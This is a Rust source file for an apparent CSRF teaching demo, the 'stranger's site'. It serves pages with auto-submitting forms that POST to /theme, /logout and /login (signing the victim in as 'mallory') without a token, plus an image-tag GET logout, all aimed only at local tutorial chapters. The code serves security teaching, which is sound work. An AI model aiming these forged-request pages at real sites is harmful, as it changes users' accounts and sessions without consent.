//! The stranger's pages: an index, and one page per attack.
//!
//! Plain HTML written here, with one line of script per attack page: the
//! stranger has no session, no template and nothing to configure, and a
//! reader sees the whole attack in the page source.

use rocket::http::Status;
use rocket::response::content::RawHtml;
use rocket::{catch, catchers, get, routes, Catcher, Request, Route, State};

use crate::target::Target;

/// Which stranger this is, and how it stands to the chapters.
pub struct Instance {
    /// `http://localhost:8666` or `http://127.0.0.1:8667`.
    pub origin: String,
    /// Same site as the chapters (`127.0.0.1`), or another site.
    pub same_site: bool,
    /// The other instance's origin, linked from the index.
    pub other: String,
}

impl Instance {
    pub fn cross_site(port: u16, same_site_port: u16) -> Instance {
        Instance {
            origin: format!("http://localhost:{port}"),
            same_site: false,
            other: format!("http://127.0.0.1:{same_site_port}"),
        }
    }

    pub fn same_site(port: u16, cross_site_port: u16) -> Instance {
        Instance {
            origin: format!("http://127.0.0.1:{port}"),
            same_site: true,
            other: format!("http://localhost:{cross_site_port}"),
        }
    }

    /// One line for the start-up banner.
    pub fn description(&self) -> &'static str {
        if self.same_site {
            "same site as the chapters (127.0.0.1), another origin:"
        } else {
            "another site than the chapters (localhost is not 127.0.0.1):"
        }
    }

    /// What it means for the chapters' cookie, in a sentence of the pages.
    fn standing(&self) -> &'static str {
        if self.same_site {
            "This stranger is on <b>the same site</b> as the chapters: they all live on \
             127.0.0.1, and a site ignores the port. So the browser sends the chapters' \
             <code>SameSite=Lax</code> session cookie with this page's requests: only the \
             chapter's own checks (the <code>Origin</code> header, the form's secret token) \
             can tell them from the user's."
        } else {
            "This stranger is on <b>another site</b> than the chapters: to a browser \
             <code>localhost</code> and <code>127.0.0.1</code> are two sites. So the browser \
             keeps the chapters' <code>SameSite=Lax</code> session cookie off this page's \
             POSTs and images; it would still send it when the user follows a link."
        }
    }
}

/// One attack: a page that runs as soon as it opens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// An auto-submitting form POSTing `next=/home` to `/theme`, without
    /// the form's token: the stranger cannot read it.
    Theme,
    /// An auto-submitting form POSTing to `/logout`.
    Logout,
    /// An auto-submitting form POSTing `username=mallory` to `/login`:
    /// login CSRF, which signs the browser in as the attacker, so that
    /// what the victim then does is done in mallory's account.
    Login,
    /// `<img src="/logout">`: the attack on the original Flask tutorial,
    /// whose `GET /logout` signs out. An image needs no script, no form
    /// and no click, and fits in a forum post or an e-mail.
    ImageLogout,
}

impl Attack {
    pub const ALL: [Attack; 4] =
        [Attack::Theme, Attack::Logout, Attack::Login, Attack::ImageLogout];

    /// Its path on the stranger: `/attack/theme`.
    pub fn slug(self) -> &'static str {
        match self {
            Attack::Theme => "theme",
            Attack::Logout => "logout",
            Attack::Login => "login",
            Attack::ImageLogout => "img-logout",
        }
    }

    /// Its page on the stranger at `stranger` (an origin such as
    /// `http://localhost:8666`), aimed at `target`.
    pub fn url(self, stranger: &str, target: &str) -> String {
        format!("{stranger}/attack/{}?target={target}", self.slug())
    }

    /// What it sends, for a table: `POST /theme, no token`.
    pub fn label(self) -> &'static str {
        match self {
            Attack::Theme => "POST /theme, no token",
            Attack::Logout => "POST /logout, no token",
            Attack::Login => "POST /login as mallory",
            Attack::ImageLogout => "<img src=\"/logout\">",
        }
    }

    fn title(self) -> &'static str {
        match self {
            Attack::Theme => "Change your theme",
            Attack::Logout => "Sign you out",
            Attack::Login => "Sign you in as mallory",
            Attack::ImageLogout => "Sign you out with an image",
        }
    }

    /// What it tries, in plain words, for the page and the index.
    fn tries(self) -> &'static str {
        match self {
            Attack::Theme => {
                "submits the chapter's theme form (<code>POST /theme</code>, \
                 <code>next=/home</code>) the moment it opens. It has no \
                 <code>csrf_token</code>: the stranger cannot read the chapter's pages, so it \
                 cannot know the secret they carry. If the chapter takes it, your theme flips."
            }
            Attack::Logout => {
                "submits the chapter's Log Out form (<code>POST /logout</code>) the moment it \
                 opens, without a <code>csrf_token</code>. If the chapter takes it, you are \
                 signed out."
            }
            Attack::Login => {
                "submits the chapter's sign-in form (<code>POST /login</code>) with \
                 <code>username=mallory</code> the moment it opens (login CSRF). If the \
                 chapter takes it, your browser is signed in as mallory, and whatever you \
                 do next happens in mallory's account, where mallory can see it. It needs no \
                 cookie from you: the chapter sets a fresh one."
            }
            Attack::ImageLogout => {
                "shows an image whose address is the chapter's <code>/logout</code>: the \
                 browser asks for it with <code>GET</code>, no script or click needed. The \
                 original Flask tutorial signs out on <code>GET /logout</code>, so there it \
                 signs you out; the chapters only show a page there."
            }
        }
    }

    // ANCHOR: attack_form
    /// The part of the page that does it. `target` is plain (see
    /// [`Target`]), escaped all the same.
    fn body(self, target: &Target) -> String {
        let form = |path: &str, fields: &str| {
            format!(
                "<form id=\"attack\" method=\"post\" action=\"{action}\">{fields}\
                 <noscript><button type=\"submit\">Submit</button></noscript></form>\n\
                 <script>\
                 document.body.dataset.attack = 'submitted';\
                 document.getElementById('attack').submit();\
                 </script>",
                action = escape(&target.url(path)),
            )
        };
        match self {
            Attack::Theme => {
                form("/theme", "<input type=\"hidden\" name=\"next\" value=\"/home\">")
            }
            Attack::Logout => form("/logout", ""),
            Attack::Login => {
                form("/login", "<input type=\"hidden\" name=\"username\" value=\"mallory\">")
            }
            // The answer is an HTML page, not an image: `error` fires, not
            // `load`. Either way the request is over, and the page says so.
            // The function comes first: the image may fail before the
            // parser reaches anything after it.
            Attack::ImageLogout => format!(
                "<script>function attackDone(how) {{\
                 document.body.dataset.attack = 'done:' + how;\
                 document.getElementById('attack-done').hidden = false; }}</script>\n\
                 <p id=\"attack-done\" hidden>The image request is over. Open \
                 <a href=\"{home}\">{home}</a> to see whether you are still signed in.</p>\n\
                 <img id=\"attack\" alt=\"\" width=\"1\" height=\"1\" src=\"{src}\" \
                 onload=\"attackDone('load')\" onerror=\"attackDone('error')\">",
                src = escape(&target.url("/logout")),
                home = escape(&target.url("/home")),
            ),
        }
    }
    // ANCHOR_END: attack_form
}

pub fn routes() -> Vec<Route> {
    routes![index, theme, logout, login, img_logout]
}

pub fn catchers() -> Vec<Catcher> {
    catchers![any_error]
}

fn page(title: &str, body: &str) -> RawHtml<String> {
    RawHtml(format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"UTF-8\">\n\
         <title>{title} · the stranger's site</title>\n\
         <style>body {{ font-family: system-ui, sans-serif; max-width: 46em; margin: 1em auto; \
         padding: 0 12px; background: #fff4f4; color: #222; }} \
         h1 {{ color: #a00; }} td, th {{ padding: 2px 10px; text-align: left; }}</style>\n\
         </head>\n<body>\n<h1>The stranger's site</h1>\n{body}\n</body>\n</html>\n",
        title = escape(title),
    ))
}

#[get("/")]
fn index(instance: &State<Instance>) -> RawHtml<String> {
    let mut rows = String::new();
    for chapter in launcher::CHAPTERS {
        let target = Target::parse(&format!("http://127.0.0.1:{}", chapter.default_port))
            .expect("a chapter's origin");
        let links: Vec<String> = Attack::ALL
            .iter()
            .map(|attack| {
                format!(
                    "<a href=\"/attack/{}?target={}\">{}</a>",
                    attack.slug(),
                    escape(target.as_str()),
                    attack.title()
                )
            })
            .collect();
        rows += &format!(
            "<tr><th>Chapter {} ({})<br><code>{}</code></th><td>{}</td></tr>\n",
            chapter.number,
            escape(chapter.section),
            escape(target.as_str()),
            links.join(" · ")
        );
    }
    let mut attacks = String::new();
    for attack in Attack::ALL {
        attacks += &format!("<li><b>{}</b>: {}</li>\n", attack.title(), attack.tries());
    }
    page(
        "Index",
        &format!(
            "<p>You are on <code>{origin}</code>. {standing}</p>\n\
             <p>Sign in to a chapter in this browser, then open one of these pages. Each one \
             attacks the chapter as soon as it opens; then look at the chapter's home page: \
             are you still yourself, in your theme?</p>\n<ul>\n{attacks}</ul>\n\
             <table>\n{rows}</table>\n\
             <p>Any page takes another target: <code>/attack/theme?target=http://127.0.0.1:9000</code> \
             (only <code>127.0.0.1</code> or <code>localhost</code>).</p>\n\
             <p>The other stranger: <a href=\"{other}/\">{other}</a>.</p>",
            origin = escape(&instance.origin),
            standing = instance.standing(),
            other = escape(&instance.other),
        ),
    )
}

/// An attack page aimed at `target`, or a 400 page saying why not.
fn attack_page(
    attack: Attack,
    instance: &Instance,
    target: Option<&str>,
) -> Result<RawHtml<String>, (Status, RawHtml<String>)> {
    let refused = |why: String| {
        let body = format!(
            "<p id=\"refused\">{}</p><p><a href=\"/\">Back to the index</a>.</p>",
            escape(&why)
        );
        (Status::BadRequest, page("Which target?", &body))
    };
    let Some(raw) = target else {
        return Err(refused("Which chapter? Add ?target=http://127.0.0.1:8002, say.".into()));
    };
    let target = Target::parse(raw).map_err(refused)?;
    println!("{}: the {} attack, aimed at {target}", instance.origin, attack.slug());
    let body = format!(
        "<h2>{title}</h2>\n<p>This page, on <code>{origin}</code>, {tries}</p>\n\
         <p>Its target: <code>{target}</code>.</p>\n<p>{standing}</p>\n{attack}",
        title = attack.title(),
        origin = escape(&instance.origin),
        tries = attack.tries(),
        target = escape(target.as_str()),
        standing = instance.standing(),
        attack = attack.body(&target),
    );
    Ok(page(attack.title(), &body))
}

type AttackPage = Result<RawHtml<String>, (Status, RawHtml<String>)>;

#[get("/attack/theme?<target>")]
fn theme(instance: &State<Instance>, target: Option<&str>) -> AttackPage {
    attack_page(Attack::Theme, instance, target)
}

#[get("/attack/logout?<target>")]
fn logout(instance: &State<Instance>, target: Option<&str>) -> AttackPage {
    attack_page(Attack::Logout, instance, target)
}

#[get("/attack/login?<target>")]
fn login(instance: &State<Instance>, target: Option<&str>) -> AttackPage {
    attack_page(Attack::Login, instance, target)
}

#[get("/attack/img-logout?<target>")]
fn img_logout(instance: &State<Instance>, target: Option<&str>) -> AttackPage {
    attack_page(Attack::ImageLogout, instance, target)
}

#[catch(default)]
fn any_error(status: Status, _request: &Request<'_>) -> RawHtml<String> {
    page(
        status.reason_lossy(),
        &format!(
            "<p>{} {}.</p><p><a href=\"/\">Back to the index</a>.</p>",
            status.code,
            escape(status.reason_lossy())
        ),
    )
}

/// `&`, `<`, `>`, `"` and `'` as entities.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{escape, Attack};
    use crate::target::Target;

    #[test]
    fn the_pages_aim_at_the_target_and_carry_no_token() {
        let target = Target::parse("http://127.0.0.1:8002").unwrap();
        let theme = Attack::Theme.body(&target);
        assert!(theme.contains("action=\"http://127.0.0.1:8002/theme\""), "{theme}");
        assert!(theme.contains("name=\"next\" value=\"/home\""), "{theme}");
        assert!(!theme.contains("csrf_token"), "{theme}");
        assert!(Attack::Login.body(&target).contains("name=\"username\" value=\"mallory\""));
        assert!(Attack::Logout.body(&target).contains("action=\"http://127.0.0.1:8002/logout\""));
        assert!(Attack::ImageLogout.body(&target).contains("src=\"http://127.0.0.1:8002/logout\""));
    }

    #[test]
    fn escapes_markup() {
        assert_eq!(escape("<a href=\"x\">&'"), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
    }
}
